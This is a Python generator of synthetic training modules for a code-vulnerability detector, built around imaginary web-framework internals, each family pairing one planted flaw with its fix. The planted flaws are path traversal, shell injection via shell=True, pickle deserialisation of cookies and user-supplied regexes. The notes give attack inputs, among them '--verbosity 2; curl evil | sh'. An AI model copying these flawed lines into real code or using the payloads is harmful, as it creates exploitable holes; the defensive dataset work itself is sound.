"""Train-only whole-module families weighted towards hard negatives (libs17 internals set): modules shaped
like the internals of mature, imaginary web frameworks, in which code that *looks* dangerous works on the
framework's own data and is safe: a migrations runner executing the ``.sql`` files shipped in its own
package directory, a management-command framework spawning ``sys.executable -m`` with fixed argument
lists, a signed-cookie session engine (hmac + JSON, ``hmac.compare_digest``), and a URL router compiling
its own route templates into regexes with ``re.escape`` around the literal text.

Each family has one weak module (exactly one weak statement among many safe ones) with its minimal fix
as twin, and a ``@hardneg(10)`` builder that assembles safe modules from the same pool of parts with
other draws, so the modules differ in the set of functions they hold, not only in names.

Covers: a migration name from an admin request joined under the migrations directory instead of being
looked up among the discovered files (22), a management command's extra arguments pasted into a shell
command line (78), a session engine decoding a legacy / flash cookie with pickle (502), and a router
compiling a pattern typed by a user (search box, editor-managed redirect rule) as a regex (1333).
Written without reading the held-out or validation families; every family here goes to train.
"""

import scenarios.train_modules_safe_web as _web
from core import Spec
from registry import fam, hardneg
from scenarios.train_modules_safe_web import P, fill

_STDLIB = _web._STDLIB | {"errno", "fcntl", "fnmatch", "glob", "importlib", "io", "pickle", "posixpath", "shlex",
                          "shutil", "signal", "sqlite3", "stat", "subprocess", "tempfile", "zlib"}
compose, pair = _web.with_stdlib(_STDLIB)


# ---------------- CWE-22: migrations runner; one entry point joins a requested name under the directory ----------------


def _mig_kw(c):
    lib = c.pick("strata", "tidemark", "keelson", "ledgerline", "shoal", "rookery")
    return dict(
        lib=lib, log=c.pick("log", "logger"),
        Err=c.pick("MigrationError", "MigrateError", "SchemaMigrationError"),
        disc=c.pick("discover", "available_migrations", "migration_files"),
        table=c.pick(f"{lib}_migrations", "schema_history", "applied_migrations"),
        mdir=c.pick("MIGRATIONS_DIR", "SQL_DIR", "MIGRATION_ROOT"),
        sub=c.pick("migrations", "sql", "schema"),
        src=c.pick('params.get("migration", "")', 'params.get("name", "")', 'params["migration"]'),
    )


def _mig_parts(c):
    run_sql = c.pick("conn.executescript(script)", "conn.cursor().executescript(script)")
    entry = c.pick("rerun", "preview")
    core = [
        P("logging", rank=0, imp="import logging"),
        P("consts", rank=0, imp="import os\nimport re", const=r'''
            $mdir = os.path.join(os.path.dirname(os.path.abspath(__file__)), "$sub")
            _NAME_RE = re.compile(r"^(\d{4})_([a-z0-9_]+)\.sql$")
            LEDGER = "$table"
        '''),
        P("err", rank=1, body='''
            class $Err(RuntimeError):
                """A migration is unknown, edited after it was applied, or failed."""
        '''),
        P("disc", rank=2, imp="import os", body='''
            def $disc(directory: str = $mdir) -> dict[str, str]:
                """Migration name -> path of the .sql files shipped in the package, in apply order."""
                found = {}
                for entry in sorted(os.listdir(directory)):
                    if _NAME_RE.match(entry):
                        found[entry[:-4]] = os.path.join(directory, entry)
                return found
        '''),
        P("sum", rank=2, imp="import hashlib", body='''
            def checksum(path: str) -> str:
                """Fingerprint of a migration file, stored so later edits are detected."""
                with open(path, "rb") as fh:
                    return hashlib.sha256(fh.read()).hexdigest()
        '''),
        P("ledger", rank=2, body='''
            def applied(conn) -> dict[str, str]:
                """Names and checksums already recorded in the ledger table (created on first use)."""
                conn.execute(f"CREATE TABLE IF NOT EXISTS {LEDGER} (name TEXT PRIMARY KEY, checksum TEXT NOT NULL, "
                             "applied_at TEXT DEFAULT CURRENT_TIMESTAMP)")
                return dict(conn.execute(f"SELECT name, checksum FROM {LEDGER}").fetchall())
        '''),
        P("apply", rank=3, needs=["sum", "ledger"], body='''
            def apply_one(conn, name: str, path: str) -> None:
                """Run one migration script and record it, in one transaction."""
                with open(path, encoding="utf-8") as fh:
                    script = fh.read()
                with conn:
                    ''' + run_sql + '''
                    conn.execute(f"INSERT OR REPLACE INTO {LEDGER} (name, checksum) VALUES (?, ?)",
                                 (name, checksum(path)))
                $log.info("applied migration %s", name)
        '''),
    ]
    if entry == "rerun":
        core.append(P("entry", rank=4, imp="from collections.abc import Mapping", body='''
            def rerun(conn, params: Mapping[str, str]) -> str:
                """Admin action "re-apply migration": runs one named script again (idempotent scripts only)."""
                name = $src  #@S
                $FIX
                apply_one(conn, name, path)
                return name
        '''))
    else:
        core.append(P("entry", rank=4, imp="from collections.abc import Mapping", body='''
            def preview(params: Mapping[str, str]) -> str:
                """Admin page "show SQL": the text of one migration, before an operator applies it."""
                name = $src  #@S
                $FIX
                with open(path, encoding="utf-8") as fh:
                    return fh.read()
        '''))
    pool = [
        P("migrate", rank=4, needs=["apply", "disc", "err"], body='''
            def migrate(conn, target: str | None = None) -> list[str]:
                """Apply every pending migration up to ``target`` (inclusive); refuse edited ones."""
                done = applied(conn)
                ran = []
                for name, path in $disc().items():
                    if name in done:
                        if done[name] != checksum(path):
                            raise $Err(f"{name} was edited after it was applied")
                        continue
                    apply_one(conn, name, path)
                    ran.append(name)
                    if name == target:
                        break
                return ran
        '''),
        P("pending", rank=4, needs=["disc", "ledger"], body='''
            def pending(conn) -> list[str]:
                """Names of shipped migrations the database has not recorded yet."""
                done = applied(conn)
                return [name for name in $disc() if name not in done]
        '''),
        P("pyhooks", rank=4, imp="import importlib\nimport os", needs=["disc"], body='''
            def load_hooks() -> dict:
                """Python post-migration hooks shipped next to the scripts: ``0007_backfill.py`` etc."""
                hooks = {}
                for name in $disc():
                    if os.path.exists(os.path.join($mdir, name + ".py")):
                        module = importlib.import_module(f"{__package__}.$sub.{name}")
                        hooks[name] = getattr(module, "run", None)
                return hooks
        '''),
        P("lock", rank=3, imp="import os\nimport tempfile", body='''
            def acquire_lock(name: str = "$lib-migrate.lock") -> int:
                """One migrator at a time on this host: O_EXCL lock file in the temp directory."""
                path = os.path.join(tempfile.gettempdir(), name)
                return os.open(path, os.O_CREAT | os.O_EXCL | os.O_WRONLY, 0o600)
        '''),
        P("squash", rank=4, needs=["disc"], body='''
            def squash_text() -> str:
                """All shipped scripts concatenated, for `makemigrations --squash` review."""
                chunks = []
                for name, path in $disc().items():
                    with open(path, encoding="utf-8") as fh:
                        chunks.append(f"-- {name}\\n{fh.read().strip()}\\n")
                return "\\n".join(chunks)
        '''),
    ]
    return core, pool, entry


_MIG_DOCS = ["Schema migrations of the $lib framework: plain .sql files shipped in the package, applied in order.",
             "$lib.migrate: a small migrations runner (ledger table, checksums, admin re-apply / preview).",
             "Migrations runner for $lib. Scripts live in the package directory and are recorded in a ledger."]


def _mig_fix(c, kw):
    weak = c.pick("path = os.path.join($mdir, name + \".sql\")  #@V",
                  "path = os.path.join($mdir, f\"{name}.sql\")  #@V",
                  "path = $mdir + \"/\" + name + \".sql\"  #@V")
    safe = c.pick("path = $disc()[name]  # KeyError for anything not shipped in the package",
                  "path = $disc().get(name) or _unknown(name)")
    return fill(weak, **kw), fill(safe, **kw)


@fam("mod17-migrations-runner-requested-name-path", "CWE-22", fws=["script"], n=8, wrap=False)
def mod17_migrations_runner(c):
    kw = _mig_kw(c)
    core, pool, entry = _mig_parts(c)
    weak, safe = _mig_fix(c, kw)
    core = core + [P("unknown", rank=2, needs=["err"], body='''
        def _unknown(name: str):
            raise $Err(f"no such migration: {name!r}")
    ''')] if "_unknown" in safe else core
    v, s = pair(c, c.pick(*_MIG_DOCS), '$log = logging.getLogger("$lib.migrate")', core, pool, kw, weak, safe,
                lo=70, hi=106)
    return Spec(v=v, s=s, full=True, fw="sdk",
                notes=f"every migration path comes from the directory listing of the package's own scripts except "
                      f"in {entry}(), which joins the name from the admin request under the directory: "
                      "name=../../../../srv/uploads/x reads (or executes as SQL) any .sql file on the host; the fix "
                      "looks the name up among the discovered migrations")


@hardneg(10)
def mod17_migrations_runner_hn(c):
    kw = _mig_kw(c)
    core, pool, _ = _mig_parts(c)
    core = core + [P("unknown", rank=2, needs=["err"], body='''
        def _unknown(name: str):
            raise $Err(f"no such migration: {name!r}")
    ''')]
    safe = fill("path = $disc().get(name) or _unknown(name)", **kw)
    code = compose(c, c.pick(*_MIG_DOCS), '$log = logging.getLogger("$lib.migrate")', core, pool, kw,
                   lo=72, hi=106, subs=[{"$FIX": safe}])[0]
    return Spec(s=code.replace("  #@S", ""), full=True, fw="sdk",
                notes="migrations runner: scripts discovered in the package's own directory, executed with "
                      "executescript, hooks imported from the package, names looked up, never joined from input")


# ---------------- CWE-78: management-command framework; one caller pastes extra args into a shell line ----------------


def _mgmt_kw(c):
    lib = c.pick("brigantine", "corvid", "palisade", "hearth", "quillon", "trellis")
    return dict(
        lib=lib, LIB=lib.upper(), log=c.pick("log", "logger"),
        Err=c.pick("CommandError", "ManagementError", "UnknownCommand"),
        argv_fn=c.pick("command_argv", "build_argv", "_argv_for"),
        call=c.pick("call_command", "run_command", "invoke"),
        timeout=c.pick(300, 600, 900),
    )


def _mgmt_parts(c):
    core = [
        P("logging", rank=0, imp="import logging"),
        P("consts", rank=0, const='''
            COMMANDS = {
                "migrate": "$lib.management.migrate",
                "collectstatic": "$lib.management.collectstatic",
                "check": "$lib.management.check",
                "clearsessions": "$lib.management.clearsessions",
            }
            DEFAULT_TIMEOUT = $timeout
        '''),
        P("err", rank=1, body='''
            class $Err(Exception):
                """Unknown command, or a command that exited non-zero."""
        '''),
        P("argv", rank=2, needs=["err"], imp="import sys", body='''
            def $argv_fn(name: str, *args: str) -> list[str]:
                """argv that runs one registered command in a fresh interpreter (no shell involved)."""
                try:
                    module = COMMANDS[name]
                except KeyError:
                    raise $Err(f"unknown command {name!r}") from None
                return [sys.executable, "-m", module, *args]
        '''),
        P("env", rank=2, imp="import os", body='''
            def child_env(settings: str | None = None) -> dict[str, str]:
                """The parent's environment minus interpreter overrides, plus the settings module."""
                env = {k: v for k, v in os.environ.items() if not k.startswith(("PYTHONSTARTUP", "PYTHONINSPECT"))}
                env["$LIB_SETTINGS"] = settings or os.environ.get("$LIB_SETTINGS", "$lib_site.settings")
                return env
        '''),
        P("call", rank=3, needs=["argv", "env"], imp="import shlex\nimport subprocess", body='''
            def $call(name: str, *args: str, settings: str | None = None) -> subprocess.CompletedProcess:
                """Run a command and capture its output; the argument list goes to exec directly."""
                argv = $argv_fn(name, *args)
                $log.info("running %s", shlex.join(argv))
                return subprocess.run(argv, env=child_env(settings), capture_output=True, text=True,
                                      timeout=DEFAULT_TIMEOUT, check=False)
        '''),
    ]
    entry = c.pick("request", "job")
    if entry == "request":
        core.append(P("entry", rank=4, needs=["argv"], imp="import subprocess\nfrom collections.abc import Mapping", body='''
            def run_from_admin(name: str, params: Mapping[str, str]) -> tuple[int, str]:
                """Admin "maintenance" page: run a registered command with the options typed in the form."""
                extra = $src  #@S
                $FIX
                return proc.returncode, proc.stdout[-4000:]
        '''.replace("$src", c.pick('params.get("args", "")', 'params.get("options", "")'))))
    else:
        core.append(P("entry", rank=4, needs=["argv"], imp="import subprocess", body='''
            def handle_job(job: dict) -> int:
                """Worker side of "schedule command" in the dashboard: the job row holds name and options."""
                name = job["command"]
                extra = $src  #@S
                $FIX
                $log.info("%s exited with %s", name, proc.returncode)
                return proc.returncode
        '''.replace("$src", c.pick('job["extra_args"]', 'job.get("options") or ""'))))
    pool = [
        P("parallel", rank=4, needs=["argv", "env"], imp="import subprocess", body='''
            def run_parallel(names: list[str]) -> dict[str, int]:
                """Start several commands at once (e.g. check + collectstatic in CI) and wait for all."""
                procs = {n: subprocess.Popen($argv_fn(n), env=child_env()) for n in names}
                return {n: p.wait(timeout=DEFAULT_TIMEOUT) for n, p in procs.items()}
        '''),
        P("reload", rank=4, imp="import os\nimport sys", body='''
            def restart_with_reloader() -> None:
                """Autoreload: replace this process by a fresh interpreter with the same argv."""
                $log.info("code changed, restarting")
                os.execv(sys.executable, [sys.executable, *sys.argv])
        '''),
        P("msgfmt", rank=4, imp="import glob\nimport os\nimport subprocess", body='''
            def compile_messages(locale_root: str) -> int:
                """compilemessages: run msgfmt on every .po file under the project's locale root."""
                count = 0
                for po in glob.glob(os.path.join(locale_root, "*", "LC_MESSAGES", "*.po")):
                    subprocess.run(["msgfmt", "--check", "-o", po[:-3] + ".mo", po], check=True)
                    count += 1
                return count
        '''),
        P("help", rank=4, needs=["call"], body='''
            def command_help(name: str) -> str:
                """The --help text of one command, shown in the admin UI."""
                return $call(name, "--help").stdout
        '''),
        P("checked", rank=4, needs=["call", "err"], body='''
            def call_checked(name: str, *args: str) -> str:
                proc = $call(name, *args)
                if proc.returncode:
                    raise $Err(f"{name} failed ({proc.returncode}): {proc.stderr.strip()[-500:]}")
                return proc.stdout
        '''),
    ]
    return core, pool, entry


def _mgmt_fix(c, kw, entry):
    name = "name"
    weak = c.pick(
        f'proc = subprocess.run(shlex.join($argv_fn({name})) + " " + extra, shell=True, capture_output=True, text=True)  #@V',
        f'proc = subprocess.run(" ".join($argv_fn({name})) + f" {{extra}}", shell=True, capture_output=True, text=True)  #@V',
        f'proc = subprocess.run(f"{{sys.executable}} -m {{COMMANDS[{name}]}} {{extra}}", shell=True, capture_output=True, text=True)  #@V')
    safe = f"proc = subprocess.run($argv_fn({name}, *shlex.split(extra)), capture_output=True, text=True)"
    return fill(weak, **kw), fill(safe, **kw)


_MGMT_DOCS = ["$lib.management: run framework commands (migrate, collectstatic, ...) in a child interpreter.",
              "Management-command runner of $lib: every command is ``python -m <module>`` with a fixed argv.",
              "Command execution for the $lib admin and worker: registered commands only, no shell."]


@fam("mod17-management-command-extra-args-shell", "CWE-78", fws=["script"], n=8, wrap=False)
def mod17_management_command(c):
    kw = _mgmt_kw(c)
    core, pool, entry = _mgmt_parts(c)
    weak, safe = _mgmt_fix(c, kw, entry)
    v, s = pair(c, c.pick(*_MGMT_DOCS), '$log = logging.getLogger("$lib.management")', core, pool, kw, weak, safe,
                lo=72, hi=106)
    return Spec(v=v, s=s, full=True, fw="sdk",
                notes="the framework builds [sys.executable, '-m', module, ...] lists everywhere, but the "
                      + ("admin action" if entry == "request" else "job handler") +
                      " pastes the free-text options into a command line run with shell=True: options such as "
                      "'--verbosity 2; curl evil | sh' run a shell command; the fix splits them with shlex.split "
                      "into the argument list of the registered command, with no shell")


@hardneg(10)
def mod17_management_command_hn(c):
    kw = _mgmt_kw(c)
    core, pool, entry = _mgmt_parts(c)
    _, safe = _mgmt_fix(c, kw, entry)
    code = compose(c, c.pick(*_MGMT_DOCS), '$log = logging.getLogger("$lib.management")', core, pool, kw,
                   lo=72, hi=106, subs=[{"$FIX": safe}])[0]
    return Spec(s=code.replace("  #@S", ""), full=True, fw="sdk",
                notes="management commands spawned as sys.executable -m with argument lists, os.execv for the "
                      "reloader, msgfmt on the project's own .po files; shlex only for logging and splitting")


# ---------------- CWE-502: signed-cookie session engine; one cookie path decodes with pickle ----------------


def _sess_kw(c):
    lib = c.pick("mooring", "cinder", "halyard", "saltmarsh", "lanyard", "tallow")
    return dict(
        lib=lib, log=c.pick("log", "logger"),
        Eng=c.pick("SignedCookieEngine", "CookieSessionEngine", "SessionSigner", "SignedSessionStore"),
        Bad=c.pick("BadSignature", "InvalidSession", "TamperedCookie"),
        cookie=c.pick("sessionid", f"{lib}_session", "sid"),
        flash=c.pick("flash", f"{lib}_messages", "_messages"),
        age=c.pick(1209600, 604800, 86400),
    )


def _sess_parts(c, shape):
    core = [
        P("logging", rank=0, imp="import logging"),
        P("consts", rank=0, const='''
            SALT = b"$lib.sessions.$Eng"
            MAX_AGE = $age
            COOKIE_NAME = "$cookie"
        '''),
        P("bad", rank=1, body='''
            class $Bad(ValueError):
                """The cookie is malformed, expired or its signature does not verify."""
        '''),
        P("b64", rank=1, imp="import base64", body='''
            def _b64(data: bytes) -> str:
                return base64.urlsafe_b64encode(data).rstrip(b"=").decode("ascii")


            def _unb64(text: str) -> bytes:
                return base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))
        '''),
    ]
    legacy = shape == "legacy"
    engine = '''
        class $Eng:
            """Sessions stored client side: zlib-compressed JSON, timestamped, signed with HMAC-SHA256."""

            def __init__(self, secret_key: str, max_age: int = MAX_AGE) -> None:
                if len(secret_key) < 32:
                    raise ValueError("secret_key must be at least 32 characters")
                self._key = hmac.new(secret_key.encode(), SALT, hashlib.sha256).digest()
                self.max_age = max_age

            def _sign(self, value: str) -> str:
                return _b64(hmac.new(self._key, value.encode("ascii"), hashlib.sha256).digest())

            def dumps(self, session: dict) -> str:
                body = _b64(zlib.compress(json.dumps(session, separators=(",", ":")).encode()))
                value = f"{body}.{int(time.time())}"
                return f"{value}.{self._sign(value)}"

            def loads(self, cookie: str) -> dict:
''' + ('''                if cookie.count(".") != 2:
                    $log.info("pre-2.0 session cookie seen")
                    $FIX
''' if legacy else "") + '''                try:
                    body, stamp, sig = cookie.split(".")
                    age = time.time() - int(stamp)
                except ValueError:
                    raise $Bad("malformed cookie") from None
                if not hmac.compare_digest(sig, self._sign(f"{body}.{stamp}")):
                    raise $Bad("signature mismatch")
                if age > self.max_age:
                    raise $Bad("session expired")
                return json.loads(zlib.decompress(_unb64(body)))
    '''
    core.append(P("engine", rank=2, needs=["bad", "b64"],
                  imp="import hashlib\nimport hmac\nimport json\nimport time\nimport zlib\nimport base64\nimport pickle",
                  body=engine))
    if not legacy:
        core.append(P("flash", rank=3, needs=["b64"], imp="import json\nimport base64\nimport pickle\nfrom collections.abc import Mapping", body='''
            def read_flash(cookies: Mapping[str, str]) -> list:
                """One-shot messages ("saved!") carried to the next page in their own cookie."""
                raw = cookies.get("$flash")  #@S
                if not raw:
                    return []
                $FIX


            def write_flash(messages: list) -> str:
                """Cookie value for the messages; they are shown once and hold nothing sensitive."""
                $FIX2
        '''))
    middleware = P("middleware", rank=4, needs=["engine"], imp="from collections.abc import Mapping", body='''
            def load_session(engine: "$Eng", cookies: Mapping[str, str]) -> dict:
                """The request's session, or a fresh one when the cookie is missing or does not verify."""
                cookie = cookies.get(COOKIE_NAME)''' + ("  #@S" if legacy else "") + '''
                if not cookie:
                    return {}
                try:
                    return engine.loads(cookie)
                except $Bad as exc:
                    $log.info("discarding session cookie: %s", exc)
                    return {}
        ''')
    if legacy:  # the pre-2.0 branch of loads() is reached from the request's cookie here
        core.append(middleware)
    pool = ([] if legacy else [middleware]) + [
        P("header", rank=4, needs=["engine"], body='''
            def set_cookie_header(engine: "$Eng", session: dict) -> str:
                """Set-Cookie for the session: HttpOnly, Secure, SameSite=Lax."""
                return (f"{COOKIE_NAME}={engine.dumps(session)}; Max-Age={engine.max_age}; Path=/; "
                        "HttpOnly; Secure; SameSite=Lax")
        '''),
        P("rotate", rank=4, imp="import secrets", body='''
            def rotate(session: dict) -> dict:
                """New CSRF token after sign-in, so a token planted before login is useless."""
                session = dict(session)
                session["_csrf"] = secrets.token_urlsafe(32)
                return session
        '''),
        P("keycache", rank=3, imp="import os\nimport pickle", body='''
            def load_key_ring(path: str) -> list[str]:
                """Previous secret keys, pickled by `$lib rotatekeys` into the instance directory (mode 0600)."""
                if not os.path.exists(path):
                    return []
                with open(path, "rb") as fh:
                    return pickle.load(fh)  # nosec B301: written by this package into its own private directory
        '''),
    ]
    return core, pool


_SESS_DOCS = ["$lib.sessions: client-side sessions in a signed, timestamped cookie.",
              "Signed-cookie session engine of the $lib framework (HMAC-SHA256 over compressed JSON).",
              "Cookie sessions for $lib: the server keeps nothing, the cookie is signed and expires."]


def _sess_fix(c, shape):
    if shape == "legacy":
        weak = c.pick("return pickle.loads(base64.b64decode(cookie))  #@V",
                      "return pickle.loads(zlib.decompress(_unb64(cookie)))  #@V")
        safe = c.pick("raise $Bad(\"unsigned pre-2.0 cookie\")", "return {}  # old unsigned cookies: sign in again")
        return (weak,), (safe,)
    if c.pick(True, False):
        weak = ("return pickle.loads(_unb64(raw))  #@V", "return _b64(pickle.dumps(messages))")
        safe = ("return json.loads(_unb64(raw))", "return _b64(json.dumps(messages).encode())")
    else:
        weak = ("return pickle.loads(base64.b64decode(raw))  #@V", "return base64.b64encode(pickle.dumps(messages)).decode()")
        safe = ("return json.loads(base64.b64decode(raw))", "return base64.b64encode(json.dumps(messages).encode()).decode()")
    return weak, safe


@fam("mod17-session-engine-cookie-pickle-path", "CWE-502", fws=["script"], n=8, wrap=False)
def mod17_session_engine(c):
    kw = _sess_kw(c)
    shape = c.pick("legacy", "flash")
    core, pool = _sess_parts(c, shape)
    weak, safe = _sess_fix(c, shape)
    weak = tuple(fill(x, **kw) for x in weak)
    safe = tuple(fill(x, **kw) for x in safe)
    v, s = pair(c, c.pick(*_SESS_DOCS), '$log = logging.getLogger("$lib.sessions")', core, pool, kw, weak, safe,
                lo=72, hi=108)
    what = ("a cookie without the signed three-part format (the pre-2.0 format) is unpickled before any "
            "signature check" if shape == "legacy" else
            "the flash-message cookie is neither signed nor JSON: read_flash unpickles whatever the client sends")
    return Spec(v=v, s=s, full=True, fw="sdk",
                notes="the session cookie is HMAC-signed JSON verified with compare_digest, but " + what +
                      ", so a crafted cookie runs code on the server through __reduce__; the fix drops the pickle "
                      "path (JSON / reject)")


@hardneg(10)
def mod17_session_engine_hn(c):
    kw = _sess_kw(c)
    shape = c.pick("legacy", "flash")
    core, pool = _sess_parts(c, shape)
    _, safe = _sess_fix(c, shape)
    subs = {"$FIX2": safe[1]} if len(safe) > 1 else {}
    subs["$FIX"] = fill(safe[0], **kw)
    code = compose(c, c.pick(*_SESS_DOCS), '$log = logging.getLogger("$lib.sessions")', core, pool, kw,
                   lo=72, hi=108, subs=[subs])[0]
    return Spec(s=code.replace("  #@S", ""), full=True, fw="sdk",
                notes="signed-cookie sessions: HMAC-SHA256 with a derived key, compare_digest, expiry, JSON; "
                      "pickle only for the package's own key ring file")


# ---------------- CWE-1333: URL router; one pattern typed by a user is compiled as a regex ----------------


def _rt_kw(c):
    lib = c.pick("wayfarer", "switchyard", "lodestar", "waymark", "causeway", "turnpike")
    return dict(
        lib=lib, log=c.pick("log", "logger"),
        R=c.pick("Router", "URLMap", "RouteTable", "Dispatcher"),
        comp=c.pick("compile_route", "compile_template", "_route_regex"),
        Err=c.pick("NoMatch", "RouteNotFound", "Resolver404"),
    )


def _rt_parts(c, shape):
    core = [
        P("logging", rank=0, imp="import logging"),
        P("consts", rank=0, imp="import re", const=r'''
            CONVERTERS = {
                "int": (r"[0-9]{1,18}", int),
                "slug": (r"[-a-zA-Z0-9_]{1,100}", str),
                "str": (r"[^/]{1,200}", str),
                "uuid": (r"[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}", str),
            }
            _PLACEHOLDER = re.compile(r"<(?:(?P<conv>[a-z]+):)?(?P<name>[a-z_][a-z0-9_]*)>")
        '''),
        P("err", rank=1, body='''
            class $Err(LookupError):
                """No route matches the path (the caller answers 404)."""
        '''),
        P("comp", rank=2, imp="import re", body='''
            def $comp(template: str) -> tuple[re.Pattern, dict]:
                """``/posts/<int:pk>/`` -> anchored regex with named groups; the literal text is escaped."""
                parts, conv, pos = ["^"], {}, 0
                for m in _PLACEHOLDER.finditer(template):
                    parts.append(re.escape(template[pos:m.start()]))
                    regex, func = CONVERTERS[m.group("conv") or "str"]
                    parts.append(f"(?P<{m.group('name')}>{regex})")
                    conv[m.group("name")] = func
                    pos = m.end()
                parts.append(re.escape(template[pos:]) + "$")
                return re.compile("".join(parts)), conv
        '''),
        P("router", rank=3, needs=["comp", "err"], imp="from collections.abc import Callable", body='''
            class $R:
                """Routes in registration order; the first template that matches wins."""

                def __init__(self) -> None:
                    self.routes: list[tuple[str, re.Pattern, dict, Callable, str]] = []

                def add(self, template: str, endpoint: Callable, name: str = "") -> None:
                    pattern, conv = $comp(template)
                    self.routes.append((template, pattern, conv, endpoint, name or endpoint.__name__))

                def match(self, path: str) -> tuple[Callable, dict]:
                    for _template, pattern, conv, endpoint, _name in self.routes:
                        m = pattern.match(path)
                        if m:
                            return endpoint, {k: conv[k](v) for k, v in m.groupdict().items()}
                    raise $Err(path)
        '''),
    ]
    if shape == "search":
        core.append(P("entry", rank=4, needs=["router"], imp="import re\nfrom collections.abc import Mapping", body='''
            def find_routes(router: "$R", params: Mapping[str, str]) -> list[str]:
                """Debug toolbar "URL map" panel: the templates whose text matches the search box."""
                query = params.get("q", "")  #@S
                $FIX
                return [t for t, *_ in router.routes if rx.search(t)]
        '''))
    else:
        core.append(P("entry", rank=4, needs=["comp", "err"], imp="from collections.abc import Iterable", body='''
            class RedirectRules:
                """Redirects managed by site editors in the CMS (old URL template -> new URL)."""

                def __init__(self, rows: Iterable[dict]) -> None:
                    self.rules = []
                    for row in rows:
                        source = row["source"]  #@S
                        $FIX
                        self.rules.append((pattern, conv, row["target"]))

                def lookup(self, path: str) -> str:
                    for pattern, _conv, target in self.rules:
                        m = pattern.match(path)
                        if m:
                            return target.format(**m.groupdict())
                    raise $Err(path)
        '''))
    pool = [
        P("reverse", rank=4, needs=["router", "err"], imp="from urllib.parse import quote", body='''
            def reverse(router: "$R", name: str, **params: object) -> str:
                """URL of a named route; each parameter is percent-encoded into its placeholder."""
                for template, _p, _c, _e, route_name in router.routes:
                    if route_name == name:
                        return _PLACEHOLDER.sub(lambda m: quote(str(params[m.group("name")]), safe=""), template)
                raise $Err(name)
        '''),
        P("slash", rank=4, needs=["router", "err"], body='''
            def append_slash(router: "$R", path: str) -> str | None:
                """APPEND_SLASH: the same path with a trailing slash, when only that form matches."""
                if path.endswith("/"):
                    return None
                try:
                    router.match(path + "/")
                except $Err:
                    return None
                return path + "/"
        '''),
        P("static", rank=4, imp="import fnmatch\nimport re", body='''
            def ignore_patterns(globs: tuple[str, ...] = ("*.map", ".*", "__pycache__/*")) -> re.Pattern:
                """collectstatic ignore list: the project's own globs translated into one regex."""
                return re.compile("|".join(fnmatch.translate(g) for g in globs))
        '''),
        P("methods", rank=4, imp="import re", body='''
            _METHOD_RE = re.compile(r"^[A-Z]{3,7}$")


            def allowed_methods(header: str) -> list[str]:
                """Parse an ``Allow``-style list, dropping tokens that are not HTTP method names."""
                return [m for m in (p.strip().upper() for p in header.split(",")) if _METHOD_RE.match(m)]
        '''),
    ]
    return core, pool


_RT_DOCS = ["URL routing of the $lib framework: templates such as /posts/<int:pk>/ compiled to anchored regexes.",
            "$lib.routing: route templates, converters and reverse(); literal text is always re.escape'd.",
            "Request dispatch for $lib: first matching route wins, placeholders are typed by converters."]


def _rt_fix(c, kw, shape):
    if shape == "search":
        weak = c.pick("rx = re.compile(query, re.IGNORECASE)  #@V", "rx = re.compile(query)  #@V")
        safe = c.pick("rx = re.compile(re.escape(query), re.IGNORECASE)", "rx = re.compile(re.escape(query))")
    else:
        weak = c.pick("pattern, conv = re.compile(source), {}  #@V", 'pattern, conv = re.compile("^" + source), {}  #@V')
        safe = "pattern, conv = $comp(source)"
    return fill(weak, **kw), fill(safe, **kw)


@fam("mod17-router-user-pattern-regex", "CWE-1333", fws=["script"], n=8, wrap=False)
def mod17_router_pattern(c):
    kw = _rt_kw(c)
    shape = c.pick("search", "redirects")
    core, pool = _rt_parts(c, shape)
    weak, safe = _rt_fix(c, kw, shape)
    v, s = pair(c, c.pick(*_RT_DOCS), '$log = logging.getLogger("$lib.routing")', core, pool, kw, weak, safe,
                lo=70, hi=106)
    who = "the search box of the URL-map panel" if shape == "search" else "a redirect rule typed by a site editor"
    return Spec(v=v, s=s, full=True, fw="sdk",
                notes="the router compiles its own templates with re.escape around the literal text and bounded "
                      f"converters, but {who} is compiled as a raw regex: (a+)+$ against a long path pins a worker "
                      "in backtracking; the fix escapes the text / compiles it as a route template")


@hardneg(10)
def mod17_router_pattern_hn(c):
    kw = _rt_kw(c)
    shape = c.pick("search", "redirects")
    core, pool = _rt_parts(c, shape)
    _, safe = _rt_fix(c, kw, shape)
    code = compose(c, c.pick(*_RT_DOCS), '$log = logging.getLogger("$lib.routing")', core, pool, kw,
                   lo=70, hi=106, subs=[{"$FIX": safe}])[0]
    return Spec(s=code.replace("  #@S", ""), full=True, fw="sdk",
                notes="router: regexes compiled from the library's own constants and escaped templates, "
                      "fnmatch.translate of its own globs; user text only ever re.escape'd")
